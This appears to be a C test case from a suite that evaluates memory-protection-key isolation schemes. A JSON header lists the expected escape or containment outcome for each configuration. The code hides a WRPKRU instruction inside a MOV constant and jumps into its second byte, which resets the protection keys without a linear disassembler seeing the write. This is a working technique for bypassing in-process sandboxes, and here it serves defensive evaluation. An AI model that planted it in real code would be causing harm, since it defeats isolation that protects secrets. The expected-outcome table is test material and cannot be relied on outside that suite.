/*
{
  "title": "WRPKRU as three bytes of a constant, which is jumped into",
  "precondition": "CR4.PKE = 1",
  "reference": "Vahldiek-Oberwagner et al., ERIM: Secure, Efficient In-process Isolation with Protection Keys (MPK), USENIX Security 2019, section 3.2 (unintended occurrences)",
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "escaped", "rule": "I1", "event": "pkruWrite"},
    "mpk-hardened": {"outcome": "refused"},
    "ring3": {"outcome": "contained", "event": "exception"},
    "pks-hardened": {"outcome": "refused"},
    "mpk-bundled": {"outcome": "refused"}
  },
  "control": {"mpk-hardened": "refused", "pks-hardened": "refused", "mpk-bundled": "refused"}
}
*/
#include "attack.h"

// A linear disassembler sees one MOV: b8 0f 01 ef c3. From its second byte on it is WRPKRU and RET.
__asm__(
    ".text\n"
    "constant:\n"
    "  movl $0xc3ef010f, %eax\n"
    "  ret\n");
extern const char constant[];

int main(void) {
  BYPASS_OF_KEYS(__asm__ volatile("call *%3" : : "a"(0), "c"(0), "d"(0), "r"(constant + 1) : "memory"));
  GOAL_COUNT();
  return 0;
}
